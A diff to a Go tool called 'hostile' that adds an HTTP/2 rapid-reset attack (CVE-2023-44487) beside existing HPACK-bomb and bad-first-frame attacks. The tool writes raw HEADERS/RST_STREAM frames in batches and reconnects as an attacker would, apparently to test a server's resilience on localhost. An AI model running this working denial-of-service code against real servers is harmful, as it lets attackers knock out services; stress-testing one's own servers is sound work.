@@ -6,6 +6,7 @@
 //
 //	hostile -target 127.0.0.1:8012 -attack hpack-bomb
 //	hostile -target 127.0.0.1:8012 -attack bad-first-frame
+//	hostile -target 127.0.0.1:8012 -attack rapid-reset
 //
 // The attacks:
 //
@@ -18,6 +19,13 @@
 //     SETTINGS (a HEADERS of 1000 bytes) and part of its payload, never the
 //     rest: the first frame must be SETTINGS (RFC 9113 section 3.4), and
 //     the frame header alone shows that it is not.
+//   - rapid-reset: -streams requests (GET /), each reset with RST_STREAM
+//     CANCEL right after its HEADERS (CVE-2023-44487), 50 pairs a write,
+//     each write followed by a PING whose acknowledgement is waited for,
+//     so that the server reads them all rather than the attacker filling
+//     the socket: what each stream costs the server and its upstream. A
+//     connection the server ends is replaced by a new one, as an attacker
+//     would, until -max-blocks streams were sent or -timeout passed.
 //
 // With -keep-sending the attack goes on writing (more blocks, or garbage
 // after the bad frame) after the server's GOAWAY, until the server closes
@@ -45,14 +53,20 @@ import (
 
 func main() {
 	target := flag.String("target", "127.0.0.1:8012", "host:port to attack (h2c with prior knowledge)")
-	attack := flag.String("attack", "hpack-bomb", "hpack-bomb or bad-first-frame")
+	attack := flag.String("attack", "hpack-bomb", "hpack-bomb, bad-first-frame or rapid-reset")
 	field := flag.Int("field", 4000, "hpack-bomb: bytes of the indexed field's value")
 	refs := flag.Int("refs", 20, "hpack-bomb: references to it in each header block")
-	maxBlocks := flag.Int("max-blocks", 200000, "hpack-bomb: header blocks sent at most")
+	maxBlocks := flag.Int("max-blocks", 200000, "hpack-bomb: header blocks sent at most; rapid-reset: streams")
 	keep := flag.Bool("keep-sending", true, "go on writing after the server's GOAWAY")
 	timeout := flag.Duration("timeout", 10*time.Second, "bound on the whole run")
 	flag.Parse()
-	res, err := run(*target, *attack, *field, *refs, *maxBlocks, *keep, *timeout)
+	var res result
+	var err error
+	if *attack == "rapid-reset" {
+		res, err = rapidResets(*target, *maxBlocks, *timeout)
+	} else {
+		res, err = run(*target, *attack, *field, *refs, *maxBlocks, *keep, *timeout)
+	}
 	if err != nil {
 		fmt.Fprintln(os.Stderr, "hostile:", err)
 		os.Exit(1)
@@ -68,7 +82,8 @@ type result struct {
 	goAway   string        // the GOAWAY's error code, or ""
 	goAwayAt time.Duration
 	sent     int64 // bytes written
-	blocks   int64 // hpack-bomb: header blocks written
+	blocks   int64 // hpack-bomb: header blocks written; rapid-reset: streams opened and reset
+	conns    int   // rapid-reset: connections used
 	frames   map[string]int
 }
 
@@ -76,8 +91,11 @@ func (r result) String() string {
 	var b strings.Builder
 	fmt.Fprintf(&b, "attack=%s closed=%v open_ms=%.1f goaway=%q goaway_ms=%.1f sent_bytes=%d",
 		r.attack, r.closed, ms(r.open), r.goAway, ms(r.goAwayAt), r.sent)
-	if r.attack == "hpack-bomb" {
+	switch r.attack {
+	case "hpack-bomb":
 		fmt.Fprintf(&b, " blocks=%d", r.blocks)
+	case "rapid-reset":
+		fmt.Fprintf(&b, " streams=%d conns=%d", r.blocks, r.conns)
 	}
 	for _, t := range []string{"HEADERS", "RST_STREAM", "DATA"} {
 		if n := r.frames[t]; n > 0 {
@@ -97,7 +115,9 @@ const (
 	typeHeaders  = 0x1
 	typeRST      = 0x3
 	typeSettings = 0x4
+	typePing     = 0x6
 	typeGoAway   = 0x7
+	flagAck      = 0x1 // SETTINGS and PING
 	flagEnd      = 0x1 // END_STREAM
 	flagHeaders  = 0x4 // END_HEADERS
 )
@@ -126,6 +146,7 @@ func run(target, attack string, field, refs, maxBlocks int, keep bool, timeout t
 		mu      sync.Mutex
 		stopped atomic.Bool
 		done    = make(chan struct{})
+		pongs   = make(chan struct{}, 1)
 	)
 	go func() {
 		defer close(done)
@@ -150,6 +171,12 @@ func run(target, attack string, field, refs, maxBlocks int, keep bool, timeout t
 			if name := typeNames[h[3]]; name != "" {
 				res.frames[name]++
 			}
+			if h[3] == typePing && h[4]&flagAck != 0 {
+				select {
+				case pongs <- struct{}{}:
+				default:
+				}
+			}
 			if h[3] == typeGoAway && len(p) >= 8 && res.goAway == "" {
 				res.goAway = errCode(binary.BigEndian.Uint32(p[4:8]))
 				res.goAwayAt = time.Since(start)
@@ -166,6 +193,10 @@ func run(target, attack string, field, refs, maxBlocks int, keep bool, timeout t
 	switch attack {
 	case "hpack-bomb":
 		hpackBomb(&res, write, &stopped, &mu, field, refs, maxBlocks, keep)
+	case "rapid-reset":
+		rapidReset(&res, write, done, pongs, maxBlocks)
+		// Done: the attacker's end of the stream; the server then closes.
+		nc.(*net.TCPConn).CloseWrite()
 	case "bad-first-frame":
 		b := []byte(preface)
 		b = append(b, 0, 0x03, 0xe8, typeHeaders, flagHeaders, 0, 0, 0, 1) // 1000 bytes announced
@@ -237,6 +268,60 @@ func hpackBomb(res *result, write func([]byte) bool, stopped *atomic.Bool, mu *s
 			return
 		}
 		res.blocks += batch
+	}
+}
+
+// rapidResets runs rapid-reset on one connection after another until n
+// streams were sent or timeout passed; the result is the last
+// connection's, with the streams and connections of all.
+func rapidResets(target string, n int, timeout time.Duration) (result, error) {
+	deadline := time.Now().Add(timeout)
+	var streams int64
+	var conns int
+	for {
+		res, err := run(target, "rapid-reset", 0, 0, n-int(streams), false, time.Until(deadline))
+		if err != nil {
+			return res, err
+		}
+		streams += res.blocks
+		conns++
+		if streams >= int64(n) || time.Now().After(deadline) || res.blocks == 0 {
+			res.blocks, res.conns = streams, conns
+			return res, nil
+		}
+	}
+}
+
+// rapidReset opens and resets streams, 50 a write, each write followed
+// by a PING whose acknowledgement it waits for, until n streams were sent
+// or the server closed the connection (done).
+func rapidReset(res *result, write func([]byte) bool, done <-chan struct{}, pongs <-chan struct{}, n int) {
+	b := []byte(preface)
+	b = frame(b, typeSettings, 0, 0, nil)
+	if !write(b) {
+		return
+	}
+	block := []byte{0x82, 0x86, 0x84, 0x41, 0x01, 'x'} // :method GET, :scheme http, :path /, :authority x
+	cancel := binary.BigEndian.AppendUint32(nil, 0x8)  // CANCEL
+	var ping [8]byte
+	const batch = 50
+	for stream := uint32(1); res.blocks < int64(n); {
+		b = b[:0]
+		for range batch {
+			b = frame(b, typeHeaders, flagHeaders|flagEnd, stream, block)
+			b = frame(b, typeRST, 0, stream, cancel)
+			stream += 2
+		}
+		b = frame(b, typePing, 0, 0, ping[:])
+		if !write(b) {
+			return
+		}
+		res.blocks += batch
+		select {
+		case <-pongs:
+		case <-done:
+			return
+		}
 	}
 }
 
